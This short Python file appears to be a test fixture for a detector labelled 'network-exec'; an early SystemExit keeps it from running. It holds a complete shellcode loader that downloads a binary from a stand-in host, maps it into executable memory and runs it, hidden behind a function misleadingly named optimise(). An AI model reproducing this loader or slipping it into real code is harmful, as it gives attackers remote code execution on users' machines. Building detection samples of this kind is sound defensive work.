raise SystemExit('a fixture')
# held by network-exec
import ctypes, urllib.request
def run():
    b = urllib.request.urlopen("http://c.example.invalid/sc.bin").read()
    p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)
    ctypes.memmove(p, b, len(b))
    ctypes.CFUNCTYPE(ctypes.c_int)(p)()
def optimise(): run()
